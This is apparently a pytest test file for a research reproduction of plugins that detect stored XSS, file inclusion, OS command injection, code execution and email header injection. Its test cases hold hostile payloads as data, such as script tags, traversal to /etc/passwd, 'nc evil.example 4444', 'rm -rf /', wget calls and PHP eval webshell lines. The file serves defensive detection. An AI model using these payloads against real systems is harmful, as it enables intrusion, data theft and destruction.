"""Tests for the stored-injection plugins."""

import pytest
from hypothesis import given, settings, strategies as st

from repro.core.plugins import (
    LFIPlugin,
    OSCIPlugin,
    RCEPlugin,
    RFIPlugin,
    StoredXSSPlugin,
    default_plugins,
)


class TestPluginInfrastructure(object):
    def test_default_set_covers_paper_classes(self):
        types = {plugin.attack_type for plugin in default_plugins()}
        assert types == {"STORED_XSS", "STORED_RFI", "STORED_LFI",
                         "STORED_OSCI", "STORED_RCE"}

    def test_inspect_short_circuits_on_empty(self):
        assert not StoredXSSPlugin().inspect("")

    def test_inspect_requires_both_steps(self):
        plugin = StoredXSSPlugin()
        # step 1 fires ('<' present) but step 2 finds no script constructs
        assert plugin.suspicious("a < b and b > c")
        assert not plugin.inspect("a < b and b > c")


class TestXSS(object):
    plugin = StoredXSSPlugin()

    @pytest.mark.parametrize("payload", [
        "<script>alert('Hello!');</script>",          # the paper's example
        "<SCRIPT src=http://evil/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<a href=\"javascript:alert(1)\">go</a>",
        "<svg onload=alert(1)>",
        "<iframe src=\"data:text/html;base64,xxx\"></iframe>",
    ])
    def test_attacks_detected(self, payload):
        assert self.plugin.inspect(payload)

    @pytest.mark.parametrize("text", [
        "hello world",
        "price < 100 and quality > average",
        "x <b>bold</b> y",                      # formatting, not script
        "2 > 1",
        "mailto:someone@example.com",
        "<p>just a paragraph</p>",
    ])
    def test_benign_passes(self, text):
        assert not self.plugin.inspect(text)

    def test_explain_lists_findings(self):
        findings = self.plugin.explain("<script>alert(1)</script>")
        assert any("script" in f for f in findings)


class TestRFI(object):
    plugin = RFIPlugin()

    @pytest.mark.parametrize("payload", [
        "http://evil.example/shell.php",
        "https://evil.example/x.txt",
        "ftp://evil.example/kit.phtml",
        "http://evil.example/page?cmd=id",
        "php://input",
        "php://filter/convert.base64-encode/resource=index",
        "expect://id",
        "data:text/plain;base64,SGVsbG8=",
    ])
    def test_attacks_detected(self, payload):
        assert self.plugin.inspect(payload)

    @pytest.mark.parametrize("text", [
        "see https://example.com/about for details",   # no script ext/args
        "http://example.com/",
        "my favourite protocol is http",
        "just words",
    ])
    def test_benign_passes(self, text):
        assert not self.plugin.inspect(text)


def _step_one_agrees(text):
    from repro.core.plugins import fileinc, osci, rce

    for plugin, full in ((RFIPlugin(), fileinc._RFI_URL_RE),
                         (OSCIPlugin(), osci._METACHAR_RE),
                         (RCEPlugin(), rce._STEP1_RE)):
        assert plugin.suspicious(text) == bool(full.search(text)), \
            (plugin, text)


class TestStepOneShortcuts(object):
    """The cheap tests put in front of three step-1 regexes rule out
    only texts the regex would have ruled out."""

    @settings(max_examples=400, deadline=None)
    @given(text=st.text(alphabet=":;|&`$\n%<({ 0a3b7c268AHTPStpfdxe/.-",
                        max_size=24))
    def test_shortcut_never_changes_step_one(self, text):
        _step_one_agrees(text)

    @pytest.mark.parametrize("text", [
        "http://x", "PHP :", "data:", "a;b", "%0A", "%3b", "%7C", "%26",
        "a\nb", "`x`", "$x", "%3C", "%28", "(", "{", "<", "50%", "%", ""])
    def test_edges(self, text):
        _step_one_agrees(text)


class TestLFI(object):
    plugin = LFIPlugin()

    @pytest.mark.parametrize("payload", [
        "../../../../etc/passwd",
        "c:\\windows\\system32",
        "%2e%2e%2f%2e%2e%2fetc",
        "/etc/shadow",
        "/proc/self/environ",
        "php://filter/read=convert/resource=config",
        "file\x00.jpg",
    ])
    def test_attacks_detected(self, payload):
        assert self.plugin.inspect(payload)

    @pytest.mark.parametrize("text", [
        "path/to/photo.jpg",
        "10/07/2016",
        "a simple sentence",
        "etc and so on",
    ])
    def test_benign_passes(self, text):
        assert not self.plugin.inspect(text)


class TestOSCI(object):
    plugin = OSCIPlugin()

    @pytest.mark.parametrize("payload", [
        "; cat /etc/passwd",
        "x && rm -rf /",
        "a | nc evil.example 4444",
        "`whoami`",
        "$(id)",
        "good; wget evil.example",
    ])
    def test_attacks_detected(self, payload):
        assert self.plugin.inspect(payload)

    @pytest.mark.parametrize("text", [
        "fish & chips",                 # ampersand without command
        "R&D department",
        "5 | 3 = 7 in binary",          # pipe without command
        "wait; see you later",          # ; without a command name
        "plain text",
    ])
    def test_benign_passes(self, text):
        assert not self.plugin.inspect(text)


class TestRCE(object):
    plugin = RCEPlugin()

    @pytest.mark.parametrize("payload", [
        "<?php eval($_GET['x']); ?>",
        "<?= system('id') ?>",
        "eval(base64_decode('aWQ='))",
        "system($_GET[0])",
        'O:8:"Evil_Obj":1:{s:3:"cmd";s:6:"whoami";}',
        "{{ 7 * 7 }}",
        "__import__('os').system('id')",
    ])
    def test_attacks_detected(self, payload):
        assert self.plugin.inspect(payload)

    @pytest.mark.parametrize("text", [
        "the evaluation went well",
        "systemic improvements (2016)",
        "I bought it for $5 {used}",
        "a < b",
    ])
    def test_benign_passes(self, text):
        assert not self.plugin.inspect(text)


class TestEmailHeaderInjectionExtension(object):
    """The extension plugin (not in the paper's default set)."""

    def _plugin(self):
        from repro.core.plugins.email import EmailHeaderInjectionPlugin

        return EmailHeaderInjectionPlugin()

    @pytest.mark.parametrize("payload", [
        "bob\r\nBcc: everyone@example.com",
        "hi%0aSubject: you won",
        "x\nContent-Type: text/html",
        "end\r\n.\r\nMAIL FROM: attacker",
    ])
    def test_attacks_detected(self, payload):
        assert self._plugin().inspect(payload)

    @pytest.mark.parametrize("text", [
        "a perfectly plain name",
        "multi\nline\ncomment without headers",
        "see section 0a for details",
    ])
    def test_benign_passes(self, text):
        assert not self._plugin().inspect(text)

    def test_not_in_default_set(self):
        assert "STORED_EMAIL_HEADER" not in {
            p.attack_type for p in default_plugins()
        }

    def test_composes_with_detector(self):
        from repro.core.detector import AttackDetector
        from repro.core.plugins.email import EmailHeaderInjectionPlugin
        from repro.core.query_structure import QueryStructure
        from repro.sqldb.parser import parse_one
        from repro.sqldb.validator import validate

        detector = AttackDetector(
            plugins=default_plugins() + [EmailHeaderInjectionPlugin()]
        )
        qs = QueryStructure.from_stack(validate(parse_one(
            "INSERT INTO t (c) VALUES ('x\\r\\nBcc: list@example.com')"
        )))
        detection = detector.detect_stored(qs)
        assert detection.attack_type == "STORED_EMAIL_HEADER"
